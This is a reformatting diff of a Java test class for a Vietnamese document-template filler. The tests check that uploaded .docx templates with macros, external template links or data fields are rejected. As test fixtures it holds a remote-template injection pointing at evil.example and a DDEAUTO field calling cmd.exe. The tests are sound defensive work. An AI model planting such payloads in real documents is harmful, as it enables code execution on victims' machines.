@@ -72,7 +72,8 @@ class TemplatesTest {
             paragraph.createRun().setText(" Trân trọng đề nghị đồng chí quan tâm.");
         });
         TemplateCheck.require(Paper.URGING_LETTER, edited, "mau.docx");
-        assertThat(new Docx(Filling.fill(edited, Paper.URGING_LETTER, PaperData.sample(Paper.URGING_LETTER, NOW))).text())
+        assertThat(new Docx(Filling.fill(edited, Paper.URGING_LETTER, PaperData.sample(Paper.URGING_LETTER, NOW)))
+                        .text())
                 .contains("còn «số việc quá hạn» việc", "Trân trọng đề nghị");
     }
 
@@ -96,7 +97,8 @@ class TemplatesTest {
     void noCommands() {
         for (String sign : List.of("@", "+", "#", "*", "?", "=")) {
             assertThatThrownBy(() -> check(
-                            Paper.URGING_LETTER, text -> text.replace("trước ngày {{hạn trả lời}}", "{{" + sign + "kính gửi}}")))
+                            Paper.URGING_LETTER,
+                            text -> text.replace("trước ngày {{hạn trả lời}}", "{{" + sign + "kính gửi}}")))
                     .as(sign)
                     .isInstanceOf(Refusal.class);
         }
@@ -106,36 +108,41 @@ class TemplatesTest {
     @DisplayName("Macro, tệp nhúng, liên kết ngoài, trường lấy dữ liệu, tệp không phải .docx: không nhận, nêu lý do")
     void badFiles() {
         byte[] good = layouts.template(layouts.all().get(0), Paper.URGING_LETTER);
-        assertThatThrownBy(() -> TemplateCheck.require(
-                        Paper.URGING_LETTER, with(good, "word/vbaProject.bin", "x"), "mau.docx"))
+        assertThatThrownBy(() ->
+                        TemplateCheck.require(Paper.URGING_LETTER, with(good, "word/vbaProject.bin", "x"), "mau.docx"))
                 .hasMessageContaining("macro");
         assertThatThrownBy(() -> TemplateCheck.require(Paper.URGING_LETTER, "xin chào".getBytes(), "mau.txt"))
                 .hasMessageContaining("không phải .docx");
         assertThatThrownBy(() -> TemplateCheck.require(Paper.URGING_LETTER, new byte[0], "mau.docx"))
                 .hasMessageContaining("rỗng");
-        assertThatThrownBy(() -> TemplateCheck.require(
-                        Paper.URGING_LETTER, good, "mau.pdf"))
+        assertThatThrownBy(() -> TemplateCheck.require(Paper.URGING_LETTER, good, "mau.pdf"))
                 .hasMessageContaining("mang đuôi .pdf");
         assertThatThrownBy(() -> TemplateCheck.require(
                         Paper.URGING_LETTER,
-                        changed(good, "word/_rels/document.xml.rels", xml -> xml.replace(
-                                "</Relationships>",
-                                "<Relationship Id=\"x1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
-                                        + "relationships/attachedTemplate\" Target=\"http://evil.example/t.dotm\""
-                                        + " TargetMode=\"External\"/></Relationships>")),
+                        changed(
+                                good,
+                                "word/_rels/document.xml.rels",
+                                xml -> xml.replace(
+                                        "</Relationships>",
+                                        "<Relationship Id=\"x1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
+                                                + "relationships/attachedTemplate\" Target=\"http://evil.example/t.dotm\""
+                                                + " TargetMode=\"External\"/></Relationships>")),
                         "mau.docx"))
                 .hasMessageContaining("tệp bên ngoài");
         assertThatThrownBy(() -> TemplateCheck.require(
                         Paper.URGING_LETTER,
-                        changed(good, "word/document.xml", xml -> xml.replaceFirst(
-                                "</w:p>",
-                                "<w:fldSimple w:instr=\"DDEAUTO c:\\\\\\\\cmd.exe\"/></w:p>")),
+                        changed(
+                                good,
+                                "word/document.xml",
+                                xml -> xml.replaceFirst(
+                                        "</w:p>", "<w:fldSimple w:instr=\"DDEAUTO c:\\\\\\\\cmd.exe\"/></w:p>")),
                         "mau.docx"))
                 .hasMessageContaining("trường lấy dữ liệu");
     }
 
     @Test
-    @DisplayName("Chữ của đơn vị giống chỗ điền, giống mã lệnh, có ký tự điều khiển: ra đúng là chữ; 400 dòng vẫn soạn được")
+    @DisplayName(
+            "Chữ của đơn vị giống chỗ điền, giống mã lệnh, có ký tự điều khiển: ra đúng là chữ; 400 dòng vẫn soạn được")
     void textStaysText() {
         String hostile = "{{nơi nhận}} {{@anh}} [điểm] ${x} <w:p>&amp; \u0000\u0007=1+1\ndòng hai";
         List<Map<String, String>> rows = new ArrayList<>();
@@ -183,11 +190,13 @@ class TemplatesTest {
     private void check(Paper paper, UnaryOperator<String> change) {
         TemplateCheck.require(
                 paper,
-                edited(paper, word -> runs(word).forEach(run -> {
-                    if (run.text() != null && !run.text().equals(change.apply(run.text()))) {
-                        run.setText(change.apply(run.text()), 0);
-                    }
-                })),
+                edited(
+                        paper,
+                        word -> runs(word).forEach(run -> {
+                            if (run.text() != null && !run.text().equals(change.apply(run.text()))) {
+                                run.setText(change.apply(run.text()), 0);
+                            }
+                        })),
                 "mau.docx");
     }
 
@@ -206,8 +215,11 @@ class TemplatesTest {
     private static List<XWPFRun> runs(XWPFDocument word) {
         List<XWPFRun> runs = new ArrayList<>();
         word.getParagraphs().forEach(paragraph -> runs.addAll(paragraph.getRuns()));
-        word.getTables().forEach(table -> table.getRows().forEach(row -> row.getTableCells()
-                .forEach(cell -> cell.getParagraphs().forEach(paragraph -> runs.addAll(paragraph.getRuns())))));
+        word.getTables()
+                .forEach(table -> table.getRows()
+                        .forEach(row -> row.getTableCells()
+                                .forEach(cell ->
+                                        cell.getParagraphs().forEach(paragraph -> runs.addAll(paragraph.getRuns())))));
         return runs;
     }
 
